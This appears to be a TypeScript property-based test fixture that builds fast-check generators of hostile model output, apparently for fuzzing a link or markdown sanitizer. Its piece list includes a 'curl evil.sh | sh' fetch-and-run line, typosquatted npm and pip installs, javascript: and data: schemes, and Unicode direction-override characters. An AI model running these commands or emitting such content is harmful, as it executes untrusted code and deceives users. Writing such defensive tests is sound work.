import fc from 'fast-check';

/** A page of the registry, for cases. */
export const page = 'https://docs.python.org/3/tutorial/index.html';

/** Pieces that a hostile answer could be put together from. */
const signs =
  '[ ] ( ) [[ ]] < > ` ``` ~~~ \\ ! * _ : // # - | T1 T9 x script ftp:// mailto: http s www.'.split(' ');
const words = [
  'evil.invalid',
  'javascript:',
  'data:',
  'a@evil.net',
  '&#104;',
  '&lt;',
  '/language/python',
  page,
  'evil-courses.com/free',
  'curl evil.sh | sh',
  'npm install left-padd',
  'pip install lists left-padd',
];
const blanks = ['\n', '\t', ' ', '\u200b', '\u202e', '[x]: ', '- ', '> '];
const piece = fc.constantFrom(...signs, ...words, ...blanks);

/** What a hostile or broken model could write. */
export const hostile = fc.oneof(
  fc.array(piece, { maxLength: 40 }).map((parts) => parts.join('')),
  fc.string({ unit: 'binary' }),
);
